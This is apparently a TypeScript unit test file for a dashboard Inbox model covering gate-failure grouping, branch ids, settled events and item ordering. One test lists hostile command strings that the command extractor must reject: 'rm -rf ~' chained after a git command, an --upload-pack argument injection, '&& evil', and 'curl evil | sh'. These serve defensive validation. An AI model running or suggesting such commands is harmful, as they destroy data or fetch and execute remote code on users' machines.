/** What the Inbox makes of records and of the log. */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import type { LogEvent } from '../../shared/contract/events/events.ts';
import type { GateRun } from '../../shared/gate/runs.ts';
import { commandIn } from '../../relay/dashboard/page/views/inbox/model/command.ts';
import {
  branchId,
  gateItems,
  keyOf,
  listed,
  nextAfter,
  ruleItem,
  type Item,
} from '../../relay/dashboard/page/views/inbox/model/items.ts';
import {
  isAbout,
  lastSettled,
  settledBy,
} from '../../relay/dashboard/page/views/inbox/model/settled.ts';
import type { ConventionRecord } from '../../shared/conventions/contract.ts';

let lastSeq = 0;

function event(parts: Record<string, unknown>): LogEvent {
  const at = '2026-03-02T10:00:00.000Z';
  return { ...parts, at, seq: ++lastSeq } as unknown as LogEvent;
}

const run = (id: string, workstream: string, more: Partial<GateRun> = {}) =>
  ({ id, workstream, failures_total: 1, left_out_total: 0, user_name: 'ada', ...more }) as GateRun;

const rule = (id: string): Item =>
  ruleItem({ id, title: id, proposed_by_name: 'ada', created_at: '' } as ConventionRecord);

test('DSH-50 what failed in one workstream is one thing to look at', () => {
  const items = gateItems([run('3', 'a'), run('2', 'b', { failures_total: 2 }), run('1', 'a')]);
  assert.equal(
    items.map(({ id, title, record }) => [id, title, record.runs.map((one) => one.id)]),
    [
      ['a', 'a: 1 test failed', ['3', '1']],
      ['b', 'b: 2 tests failed', ['2']],
    ],
  );
});

test('DSH-50 a branch is named in an address without a slash, by person and machine', () => {
  const held = { user_id: 'usr_1', machine: 'tower', branch: 'coord/a' };
  assert.match(branchId(held), /^[0-9a-z]+$/);
  assert.is.not(branchId(held), branchId({ ...held, machine: 'laptop' }));
});

test('DSH-53 a failed gate that somebody dismissed is settled, and one that was brought back is not', () => {
  const told = { type: 'gate_dismissed', workstream: 'pay', user: 'bob' };
  assert.equal(
    settledBy(event({ ...told, dismissed: true })).map((one) => `${keyOf(one)}: ${one.words}`),
    ['gate/pay: bob dismissed it'],
  );
  assert.equal(settledBy(event({ ...told, dismissed: false })), []);
});

test('DSH-53 an event without a machine tells of the branch on each, and one with a machine of that alone', () => {
  const held = { user_id: 'usr_1', machine: 'tower', branch: 'coord/a' };
  const moved = (machine: string) => {
    const [settled] = settledBy(event({ ...held, type: 'branch_moved', machine, user: 'bob' }));
    assert.ok(settled);
    return settled;
  };
  const id = branchId(held);
  assert.equal(
    ['', 'tower', 'laptop'].map((machine) => isAbout(moved(machine), 'branch', id)),
    [true, true, false],
  );
  assert.not(isAbout(moved(''), 'branch', branchId({ ...held, user_id: 'usr_2' })));
});

test('DSH-50 only what coord watch advises is offered to be copied', () => {
  assert.equal(
    commandIn('uncommitted changes in a.ts. Commit or stash them, then: git pull --ff-only'),
    {
      what: 'uncommitted changes in a.ts. Commit or stash them.',
      command: 'git pull --ff-only',
    },
  );
  assert.is(commandIn('No answer. Try: git fetch origin').command, 'git fetch origin');
  for (const reason of [
    'Try: git fetch origin; rm -rf ~',
    'Try: git fetch --upload-pack=x y',
    'then: git pull --ff-only && evil',
    'run: curl evil | sh',
    '',
  ])
    assert.equal(commandIn(reason), { what: reason, command: '' });
});

test('DSH-52 after something was settled the one below is chosen, else the one above', () => {
  const items = ['a', 'b', 'c'].map(rule);
  assert.is(nextAfter(items, 'rule/a')?.id, 'b');
  assert.is(nextAfter(items, 'rule/c')?.id, 'b');
  assert.is(nextAfter(items, 'rule/a', new Set(['rule/a', 'rule/b']))?.id, 'c');
  assert.is(nextAfter(items, 'rule/c', new Set(['rule/a', 'rule/b', 'rule/c'])), undefined);
  assert.is(nextAfter([rule('a')], 'rule/a'), undefined);
});

test('DSH-53 an event says what waits no longer, and who did what', () => {
  const ended = {
    type: 'negotiation_ended',
    negotiation_id: 'neg_1',
    file: 'src/a.ts',
    initiator: 'bob',
    counterparty: 'ada',
    note: 'the fix first',
  };
  const words = (parts: Record<string, unknown>) =>
    settledBy(event(parts)).map((one) => `${keyOf(one)}: ${one.words}`);
  assert.equal(words({ ...ended, outcome: 'yield', by: 'cleo' }), [
    'negotiation/neg_1: cleo gave it to bob: the fix first',
  ]);
  assert.equal(words({ ...ended, outcome: 'hold', by: 'cleo', note: '' }), [
    'negotiation/neg_1: cleo left it with ada',
  ]);
  const decision = { id: 'dec_1', title: 'One' };
  assert.equal(words({ type: 'decision_reaffirmed', decision, user: 'bob', note: '' }), [
    'stale/dec_1: bob reaffirmed it',
  ]);
  assert.equal(
    words({ type: 'decision_superseded', decision, by: { title: 'Two' }, user: 'bob' }),
    ['stale/dec_1: bob replaced it by “Two”', 'decision/dec_1: bob replaced it by “Two”'],
  );
  const reviewed = {
    type: 'meeting_reviewed',
    meeting: { id: 'mtg_1', title: 'M' },
    result: { id: 'act_1', title: 'T', state: 'dropped', kind: 'action' },
    user: 'bob',
  };
  assert.equal(words(reviewed), ['result/mtg_1.act_1: bob dropped it']);
  const back = { ...reviewed, result: { ...reviewed.result, state: 'found' } };
  assert.equal(words(back), [], 'what was brought back waits again');
});

test('DSH-54 what was settled last is told once for each thing, the newest first', () => {
  const changed = (id: string, user: string) =>
    event({ type: 'convention_changed', convention: { id, title: id }, user });
  const events = [changed('a', 'ada'), changed('b', 'bob'), changed('a', 'cleo')];
  assert.equal(
    lastSettled(events, 5).map(({ id, words }) => `${id} ${words}`),
    ['a ada accepted it', 'b bob accepted it'],
  );
  assert.is(lastSettled(events, 1).length, 1);
});

test('DSH-50 many names are cut', () => {
  assert.is(listed(['a'], 3), 'a');
  assert.is(listed(['a', 'b', 'c'], 3), 'a, b and c');
  assert.is(listed(['a', 'b', 'c', 'd'], 3), 'a, b, c and 1 more');
});

test.run();
